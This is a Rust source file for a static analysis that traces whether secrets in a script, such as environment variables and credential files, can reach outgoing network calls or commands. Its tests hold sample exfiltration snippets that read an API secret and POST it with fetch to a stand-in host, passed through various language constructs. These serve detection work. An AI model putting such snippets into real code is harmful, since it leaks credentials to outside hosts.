//! What of a script's data may reach what of its calls, by how the script is written alone.
//!
//! The interpreter says what happens; where it is wrong about one condition, one order or one method of the runtime, it is
//! wrong about all that follows, and cannot know it. This analysis asks less and is wrong only in one direction: it knows no
//! order, no conditions and no calls from each other, but takes every way that the syntax leaves open. It reads the syntax tree
//! once into a graph ([`graph`]) of what may hold what, and carries marks along until nothing changes.
//!
//! Invariant: data that the interpreter saw reaching a call may reach it here, too. What may reach a call by this graph, and was
//! not seen by the interpreter, is a flow all the same: one whose way is not known ([`Way::Open`]).
//!
//! All files of this room write into one [`Cover`] and are called as the syntax nests: `call`, `function`, `sink` and `runtime` know
//! one another for that reason. `edge` and `graph` know none of them.

mod accessors;
mod alike;
mod around;
mod call;
mod class;
mod code;
mod connect;
mod edge;
mod expression;
mod file;
mod function;
mod graph;
mod jsx;
mod member;
mod owned;
mod pattern;
mod runtime;
mod serving;
mod shared;
mod sink;
mod variable;

use oxc_ast::ast::{Program, Statement};
use oxc_ast_visit::Visit;
use oxc_semantic::Scoping;
use oxc_syntax::scope::ScopeId;
use oxc_syntax::symbol::SymbolId;
use rustc_hash::{FxHashMap, FxHashSet};

use crate::format::script::cover::call::CallSite;
use crate::format::script::cover::function::{Around, FunctionNodes};
use crate::format::script::cover::graph::{ANY, ELEMENTS, FOREIGN, Graph, Marks, Node, ORIGINS};
use crate::format::script::cover::owned::Owned;
use crate::format::script::cover::runtime::Ways;
use crate::format::script::cover::sink::Site;
use crate::format::script::cover::variable::Round;
use crate::format::script::interpret::{Bound, Exhaustion, Interpretation, OuterName};
use crate::knowledge::api::api;
use crate::knowledge::secret::{is_secret_variable, path_sensitivity};
use crate::knowledge::{Sensitivity, SinkKind, tool};
use crate::subject::call::{HostCall, Value};
use crate::subject::flow::{CallRef, Origin, OriginKind, Way};
use crate::value::span::Span;

/// Adds to what was found in a script the flows that may be there and were not seen.
///
/// `named` are further functions that call tools, `outer` the names of the script around an embedded one.
#[expect(clippy::too_many_arguments, reason = "what was parsed, what was asked for, and what was found")]
pub fn complete(program: &Program<'_>, scoping: &Scoping, named: &[String], outer: &[OuterName], nodes: u32, found: &mut Interpretation) {
    let leads_out =
        |call: &HostCall| api(&call.api).and_then(|api| api.sink).is_some_and(|sink| sink.is_outgoing() || sink == SinkKind::Command);
    let has_way = || {
        let names = scoping.root_unresolved_references();
        let imports = program.body.iter().filter_map(|statement| match statement {
            Statement::ImportDeclaration(import) => Some(import.source.value.as_str()),
            _ => None,
        });
        names.keys().any(|name| runtime::is_way(name.as_str())) || imports.into_iter().any(runtime::is_way_module)
    };
    let is_small = nodes < SMALL;
    let matters = origins_that_matter(&found.origins, is_small || has_lost_data(found));
    let is_closed = found.calls.is_empty() && !found.host_calls.iter().any(leads_out) && !is_small && !has_lost_data(found) && !has_way();
    if matters.is_empty() || is_closed {
        make_up(found, |_, _| true);
        return;
    }
    let mut cover = Cover::new(scoping, named, found, matters);
    cover.outer(outer);
    cover.find_pragma(program.source_text);
    cover.serving = serving::modules(program, scoping);
    cover.parted = accessors::parted(program, scoping);
    cover.owned = owned::owned(program, scoping);
    cover.visit_program(program);
    if cover.settle(STEPS + STEPS_PER_NODE * u64::from(nodes)) {
        let mut texts: FxHashMap<Span, bool> = FxHashMap::default();
        let mut all = texts.clone();
        for site in &cover.sites {
            *texts.entry(site.span).or_default() |= cover.carries_data(site, true);
            *all.entry(site.span).or_default() |= cover.carries_data(site, false);
        }
        let places = found.places.clone();
        let is_own = |number, sink| {
            // Code is text; what else is obeyed may stand in an object.
            let touched = if sink == SinkKind::Code { &texts } else { &all };
            let mut here = places.iter().filter(|(_, call)| *call == CallRef::Host(number));
            here.all(|(span, _)| touched.get(span) == Some(&false))
        };
        make_up(found, is_own);
    } else {
        found.exhaustion.get_or_insert(Exhaustion { bound: Bound::Open, function: None, span: None });
    }
    let way = if is_small || !found.calls.is_empty() { Way::Open } else { Way::Entangled };
    sink::add_flows(&cover, way, found);
}

/// Returns true if and only if the interpreter lost sight of data, and of nothing else.
fn has_lost_data(found: &Interpretation) -> bool {
    found.exhaustion.as_ref().is_some_and(|exhaustion| exhaustion.bound.is_of_data())
}

/// Data that the interpreter lost sight of, and that can only have left, is found here: that it was lost is no reason to doubt.
///
/// What a call that obeys its argument is given must be the script's own: of host calls, by number, `is_own` says so. What a tool
/// is asked to do, and what a command says, is not known where data was lost.
fn make_up(found: &mut Interpretation, is_own: impl Fn(usize, SinkKind) -> bool) {
    if !has_lost_data(found) || !found.calls.is_empty() {
        return;
    }
    let is_safe = |(number, call): (usize, &HostCall)| match api(&call.api).and_then(|api| api.sink) {
        Some(SinkKind::Command) => call.arguments.iter().all(is_known),
        Some(sink @ (SinkKind::Code | SinkKind::Query | SinkKind::Prompt)) => call.arguments.iter().all(is_known) || is_own(number, sink),
        _ => true,
    };
    if found.host_calls.iter().enumerate().all(is_safe) {
        found.exhaustion = None;
    }
}

/// Returns true if and only if a value is a text, a number or the like, known as a whole.
fn is_known(value: &Value) -> bool {
    matches!(value, Value::String(..) | Value::Number(..) | Value::Boolean(..) | Value::Null(..) | Value::Missing)
}

/// How many syntax nodes a script has that costs little whatever it does.
const SMALL: u32 = 5_000;
/// Steps that are taken at most, beside [`STEPS_PER_NODE`].
const STEPS: u64 = 2_000_000;
/// Steps that may be taken for each syntax node.
const STEPS_PER_NODE: u64 = 400;

/// The origins of data that must not leave, by index.
fn origins_that_matter(origins: &[Origin], is_small: bool) -> Vec<usize> {
    // `process.env` alone is all of it; as a part of `process.env.NAME` it is not.
    let parts: FxHashSet<u32> = origins.iter().filter(|origin| name_of(origin).is_some()).map(|origin| origin.span.start).collect();
    let matters = |origin: &Origin| match origin.kind {
        OriginKind::Environment => match name_of(origin) {
            Some(name) => is_secret_variable(Some(name)),
            None => !parts.contains(&origin.span.start),
        },
        // What a machine is called is no secret.
        OriginKind::Incoming | OriginKind::UserInput | OriginKind::System | OriginKind::Page | OriginKind::Program => false,
        OriginKind::Network => is_small,
        OriginKind::Storage => origin.detail.as_deref().is_none_or(|key| key.is_empty() || is_secret_variable(Some(key))),
        OriginKind::Tool | OriginKind::File | OriginKind::Clipboard | OriginKind::Process => true,
    };
    origins.iter().enumerate().filter(|(_, origin)| matters(origin)).map(|(index, _)| index).collect()
}

/// Returns true if and only if an origin is a secret, of which no bit may leave.
fn is_secret(origin: &Origin) -> bool {
    let name = name_of(origin).unwrap_or(&origin.name);
    match origin.kind {
        OriginKind::Storage => true,
        OriginKind::Tool => is_secret_variable(Some(name)) || tool(name).sensitivity == Some(Sensitivity::Authentication),
        OriginKind::File => {
            let path = origin.detail.as_deref().and_then(path_sensitivity);
            is_secret_variable(Some(name)) || path == Some(Sensitivity::Authentication)
        }
        _ => is_secret_variable(Some(name)),
    }
}

/// Returns true if and only if all of the environment is read.
fn is_environment(origin: &Origin) -> bool {
    origin.kind == OriginKind::Environment && name_of(origin).is_none()
}

/// The name of an environment variable that is read.
fn name_of(origin: &Origin) -> Option<&str> {
    let name = origin.detail.as_deref().or_else(|| origin.name.strip_prefix("process.env."));
    name.filter(|name| origin.kind == OriginKind::Environment && !name.is_empty())
}

/// The graph of a script in the making.
struct Cover<'s> {
    scoping: &'s Scoping,
    named: &'s [String],
    graph: Graph,
    variables: FxHashMap<SymbolId, Node>,
    globals: FxHashMap<String, Node>,
    functions: Vec<FunctionNodes>,
    calls: Vec<CallSite>,
    /// Calls of methods that may be the script's or the runtime's.
    undecided: Vec<u32>,
    sites: Vec<Site>,
    around: Vec<Around>,
    /// The marks of data that is read in a place.
    origins: FxHashMap<Span, Marks>,
    /// The mark of each origin, by index; none of those that do not matter. The last mark may be of many.
    marks: Vec<Marks>,
    /// The places of calls of which the interpreter knows what they do, and whether what they are given comes out of them.
    known: FxHashMap<Span, bool>,
    /// The places of calls that are handed functions whose answers go to whoever asked.
    answered: FxHashSet<Span>,
    ways: Ways,
    /// The prototypes of all lists, texts and objects.
    common: Node,
    /// Functions that are not told apart, as one: what they are passed, their `this`, what they return.
    many: (Node, Node, Node),
    /// All that is printed.
    printed: Node,
    /// Texts with addresses in them, as they are put together.
    addresses: Vec<(Node, Value)>,
    /// What errors are made with.
    errors: Node,
    /// What a regular expression was matched with last.
    last_match: Node,
    /// All that is thrown.
    thrown: Node,
    /// All that is sent into generators.
    sent: Node,
    /// Fields whose names are not known.
    any_field: Node,
    /// Elements of lists.
    elements: Node,
    /// Objects whose fields can be named without them (`with`).
    with: Vec<Node>,
    /// How many `try` stand around.
    tries: u32,
    /// The nodes that variables became where they were written, with what they were before.
    versions: Vec<(SymbolId, Node, Node)>,
    /// The conditions around, in loops and functions that are called for elements, and all that were read.
    conditions: Vec<Node>,
    conditions_read: Vec<Node>,
    /// How many loops and such functions stand around.
    laps: u32,
    /// The loops and functions around, from where what happens in them may end early.
    rounds: Vec<Round>,
    /// Answers to comparisons with something that is not written out.
    spelled: FxHashSet<Node>,
    /// What is the length of something.
    lengths: FxHashSet<Node>,
    /// What a text or a list was cut to by something that is not written out: its length tells of both.
    cut: FxHashSet<Node>,
    /// All that was put together in loops.
    told: Vec<Node>,
    /// Variables that always hold one text.
    constants: FxHashMap<SymbolId, String>,
    /// What a text was written from as JSON.
    written_as_json: FxHashMap<Node, Node>,
    /// The elements of lists that are written out.
    parts: FxHashMap<Node, Vec<Node>>,
    /// Where all of the environment is read, and the nodes that are it.
    environments: FxHashSet<Span>,
    environment_nodes: FxHashSet<Node>,
    /// For variables that were asked for, whether only the function that declares them uses them.
    local: FxHashMap<SymbolId, bool>,
    /// What is being assigned to a member, as far as it is written out.
    assigned: Option<Value>,
    /// What is being assigned to a member is a number.
    assigns_number: bool,
    /// Names of accessors: what is written under one is not what is read there.
    parted: FxHashSet<String>,
    /// Fields that are those of one class.
    owned: Owned,
    /// Where the classes around begin.
    classes: Vec<u32>,
    /// The namespaces around.
    namespaces: Vec<Node>,
    /// The function that JSX calls, where the script says which.
    pragma: Option<Node>,
    /// Modules of which the script uses nothing but servers.
    serving: FxHashSet<String>,
    /// Modules by their names.
    modules: FxHashMap<String, Node>,
    /// Where text is run as code, with the texts that are known to be.
    code: FxHashMap<Span, Vec<String>>,
    /// Code that is not known, by the scope in which it runs.
    unknown_code: FxHashMap<Option<ScopeId>, Node>,
    /// Where files are read and written, and what is in them.
    accesses: FxHashMap<Span, file::Access>,
    files: FxHashMap<file::FileName, Node>,
}

impl<'s> Cover<'s> {
    fn new(scoping: &'s Scoping, named: &'s [String], found: &Interpretation, matters: Vec<usize>) -> Self {
        let mut origins: FxHashMap<Span, Marks> = FxHashMap::default();
        let mut marks = vec![0; found.origins.len()];
        for (number, index) in matters.iter().enumerate() {
            marks[*index] = 1 << (number as u32).min(ORIGINS - 1);
        }
        let mut graph = Graph::default();
        for (origin, mark) in found.origins.iter().zip(&marks) {
            if is_secret(origin) {
                graph.secrets |= mark;
            }
            *origins.entry(origin.span).or_default() |= mark;
        }
        let reading: FxHashSet<Span> = origins.keys().copied().collect();
        let known = found.noted.iter().map(|(span, gives_back)| (*span, *gives_back && !reading.contains(span))).collect();
        let common = graph.node();
        let (printed, errors) = (graph.node(), graph.node());
        graph.mark(printed, FOREIGN);
        graph.mark(errors, FOREIGN);
        let (many, last_match) = ((graph.node(), graph.node(), graph.node()), graph.node());
        let (thrown, sent, any_field, elements) = (graph.node(), graph.node(), graph.field(ANY), graph.field(ELEMENTS));
        Self {
            scoping,
            named,
            graph,
            variables: FxHashMap::default(),
            globals: FxHashMap::default(),
            functions: Vec::new(),
            calls: Vec::new(),
            undecided: Vec::new(),
            sites: Vec::new(),
            around: vec![Around::default()],
            origins,
            marks,
            known,
            answered: found.answered.clone(),
            ways: Ways::default(),
            common,
            last_match,
            many,
            printed,
            errors,
            addresses: Vec::new(),
            thrown,
            sent,
            any_field,
            elements,
            with: Vec::new(),
            tries: 0,
            versions: Vec::new(),
            conditions: Vec::new(),
            conditions_read: Vec::new(),
            laps: 0,
            rounds: Vec::new(),
            spelled: FxHashSet::default(),
            lengths: FxHashSet::default(),
            cut: FxHashSet::default(),
            told: Vec::new(),
            constants: FxHashMap::default(),
            written_as_json: FxHashMap::default(),
            parts: FxHashMap::default(),
            environments: found.origins.iter().filter(|origin| is_environment(origin)).map(|origin| origin.span).collect(),
            environment_nodes: FxHashSet::default(),
            serving: FxHashSet::default(),
            local: FxHashMap::default(),
            assigned: None,
            parted: FxHashSet::default(),
            owned: Owned::default(),
            classes: Vec::new(),
            assigns_number: false,
            namespaces: Vec::new(),
            pragma: None,
            modules: FxHashMap::default(),
            code: code::texts(found),
            unknown_code: FxHashMap::default(),
            accesses: file::accesses(found),
            files: FxHashMap::default(),
        }
    }

    /// The mark of an origin.
    fn mark_of(&self, index: usize) -> Marks {
        self.marks.get(index).copied().unwrap_or_default()
    }

    /// Which origins have a mark that no other one has.
    fn told_apart(&self) -> impl Fn(usize) -> bool {
        let last = 1 << (ORIGINS - 1);
        let is_shared = 1 < self.marks.iter().filter(|mark| **mark == last).count();
        move |index| !is_shared || self.mark_of(index) != last
    }

    /// The names of the script around, with the data that they carry.
    fn outer(&mut self, names: &[OuterName]) {
        for name in names {
            let marks = name.labels.iter().fold(0, |marks, (origin, ..)| marks | self.mark_of(*origin as usize));
            let node = match name.name.rsplit_once('.') {
                Some((owner, _)) => self.outer_member(owner, &name.name),
                None => self.global(&name.name),
            };
            self.graph.mark(node, marks);
        }
    }

    /// What the script around keeps in a member of something of the runtime's: `process.argv`.
    fn outer_member(&mut self, owner: &str, name: &str) -> Node {
        let (member, kept) = (name.rsplit('.').next().unwrap_or(name), self.object());
        let mut parts = owner.split('.');
        let root = parts.next().unwrap_or(owner);
        let mut base = self.global(root);
        if !matches!(root, "process" | "globalThis") {
            base = self.graph.node();
            self.module(base, root);
        }
        for part in parts {
            base = self.property(base, part);
        }
        self.write(base, member, kept);
        kept
    }

    /// The function that JSX calls, where a comment names one (`/** @jsx h */`) or the script has a `React` of its own.
    fn find_pragma(&mut self, text: &str) {
        let scoping = self.scoping;
        let Some((_, rest)) = text.split_once("@jsx ") else {
            let is_own = |symbol: &SymbolId| scoping.symbol_name(*symbol) == "React" && !scoping.symbol_flags(*symbol).is_import();
            if let Some(own) = scoping.symbol_ids().find(is_own) {
                let own = self.variable(own);
                self.pragma = Some(self.property(own, "createElement"));
            }
            return;
        };
        let name: String = rest.trim_start().chars().take_while(|character| character.is_alphanumeric() || *character == '_').collect();
        if let Some(symbol) = self.scoping.symbol_ids().find(|symbol| self.scoping.symbol_name(*symbol) == name) {
            self.pragma = Some(self.variable(symbol));
        }
    }

    /// Carries all marks to the end; false, if that takes more steps than may be taken.
    fn settle(&mut self, steps: u64) -> bool {
        loop {
            let again = self.graph.carry();
            let many = self.graph.take_many();
            if again.is_empty() && many.is_empty() && !self.decide() {
                return true;
            }
            if steps < self.graph.steps() {
                return false;
            }
            for function in many {
                self.join_many(function as usize);
            }
            for call in again {
                self.connect(call);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use oxc_allocator::Allocator;
    use oxc_ast::ast::{CallExpression, NewExpression, TaggedTemplateExpression};
    use oxc_ast_visit::{Visit, walk};
    use oxc_parser::Parser;
    use oxc_semantic::SemanticBuilder;
    use oxc_span::SourceType;

    use super::*;
    use crate::format::script::interpret::{Effort, interpret};
    use crate::format::script::span::span_of;
    use crate::subject::flow::Strength;

    /// Every kind of expression, statement and declaration in which a call can stand.
    const EVERYWHERE: &str = r#"
        import a = N.c; export const z = f1(); export default f2();
        namespace N { export const c = f3(); namespace M { f4() } }
        enum E { A = f5(), B = 2 }
        @f6() class C extends f7() { @f8() [f9()] = f10(); static x = f11(); accessor y = f12(); static { f13() }
            constructor(private p = f14()) { super(f15()) } get g() { return f16() } set g(v) { f17(v) } #h = f18(); m(@f19() q) { super.m(f20()) } @f106() get [f107()]() { return f108() } @f109() set [f110()](v) { f111() } }
        label: for (let i = f21(); f22(); f23()) { continue label }
        for (const k in f24()) f25(); for (const v of f26()) f27(); for await (const w of f28()) f29();
        while (f30()) f31(); do f32(); while (f33()); if (f34()) f35(); else f36();
        switch (f37()) { case f38(): f39(); default: f40() }
        try { f41() } catch ({ message = f42() }) { f43() } finally { f44() }
        const { [f45()]: d = f46(), ...rest } = f47(), [e1 = f48(), ...e2] = f49();
        ({ [f50()]: o.p = f51() } = f52()); [q[f53()] = f54()] = f55(); x ||= f56(); x.y += f57(); x[f58()]++;
        (f59(), f60()) ? f61() : f62(); f63() && f64() ?? 0; -f65(); typeof f66(); void f67(); f68() as any; f69()!; <any>f70(); f71() satisfies any;
        `${f72()}`; tag`${f73()}`; f74()`x`; new (f75())(f76(), ...f77()); f78()?.[f79()]?.(f80()); [f81(), ...f82()];
        ({ a: f83(), [f84()]: f85(), ...f86(), get b() { return f87() }, set b(v) { f88() }, c() { f89() }, set [f103()](v) {}, get [f104()]() { return f105() }, async *d() { yield f90(); yield* f91(); await f92() } });
        (a1 = f93(), { b1 = f94() }) => f95(); (function (c1 = f96()) { return f97() }); import(f98(), f99()); #h in f100(); throw f101(); function later() { f102() }
    "#;

    struct Calls(Vec<Span>);

    impl<'a> Visit<'a> for Calls {
        fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
            self.0.push(span_of(it));
            walk::walk_call_expression(self, it);
        }

        fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
            self.0.push(span_of(it));
            walk::walk_new_expression(self, it);
        }

        fn visit_tagged_template_expression(&mut self, it: &TaggedTemplateExpression<'a>) {
            self.0.push(span_of(it));
            walk::walk_tagged_template_expression(self, it);
        }
    }

    fn covered<R>(text: &str, look: impl FnOnce(&Program<'_>, &Cover<'_>, &Interpretation) -> R) -> R {
        let arena = Allocator::default();
        let parsed = Parser::new(&arena, text, SourceType::ts()).parse();
        let scoping = SemanticBuilder::new().build(&parsed.program).semantic.into_scoping();
        let found = interpret(&parsed.program, &scoping, &[], Effort::of(true, 1_000, 1_000_000), None);
        let matters = origins_that_matter(&found.origins, true);
        let mut cover = Cover::new(&scoping, &[], &found, matters);
        cover.visit_program(&parsed.program);
        assert!(cover.settle(10_000_000));
        look(&parsed.program, &cover, &found)
    }

    #[test]
    fn every_call_in_the_tree_is_looked_at() {
        covered(EVERYWHERE, |program, cover, _| {
            let mut calls = Calls(Vec::new());
            calls.visit_program(program);
            assert!(100 < calls.0.len(), "the script does not parse");
            let seen: FxHashSet<Span> = cover.sites.iter().map(|site| site.span).collect();
            let missed: Vec<&str> = calls.0.iter().filter(|span| !seen.contains(span)).map(|span| span.slice(EVERYWHERE)).collect();
            assert!(missed.is_empty(), "{missed:?}");
        });
    }

    #[test]
    fn what_the_interpreter_sees_reaching_a_call_may_reach_it() {
        for way in [
            "const out = s;",
            "const box = { in: { deep: s } }; const out = box.in.deep;",
            "const out = [s].map((v) => v + '!').join();",
            "const all = new Map([['k', s]]); const out = all.get('k');",
            "const out = await Promise.resolve(s).then((v) => [v]);",
            "function give(v) { return { v } } const { v: out } = give(s);",
            "class A { #k; constructor(k) { this.#k = k } tell() { return this.#k } } const out = new A(s).tell();",
            "const out = JSON.stringify({ s, n: 1 });",
            "let out; try { throw s } catch (e) { out = e }",
            "function* g() { yield s } const [out] = g();",
        ] {
            let text =
                format!("const s = process.env.API_SECRET; {way} await fetch('https://x.example.net/', {{ method: 'POST', body: out }});");
            covered(&text, |_, cover, found| {
                let whole: Vec<_> = found.flows.iter().filter(|flow| flow.strength == Strength::Whole).collect();
                assert!(!whole.is_empty(), "the interpreter sees nothing: {way}");
                for flow in whole {
                    let mark = cover.mark_of(flow.origin);
                    let places: Vec<Span> = found.places.iter().filter(|(_, call)| *call == flow.sink).map(|(span, _)| *span).collect();
                    let reaches = cover
                        .sites
                        .iter()
                        .filter(|site| places.contains(&site.span))
                        .any(|site| site.passed.iter().any(|passed| cover.graph.held(passed.node).all() & mark == mark));
                    assert!(reaches, "{way}: {flow:?}");
                }
            });
        }
    }
}
